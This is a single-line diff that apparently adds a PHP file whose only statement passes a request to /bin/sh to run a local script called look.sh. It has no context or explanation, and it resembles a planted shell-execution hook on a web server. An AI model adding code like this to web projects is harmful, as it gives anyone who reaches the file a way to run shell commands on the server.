@@ -1,0 +1,1 @@
+<?php passthru('exec /bin/sh look.sh');
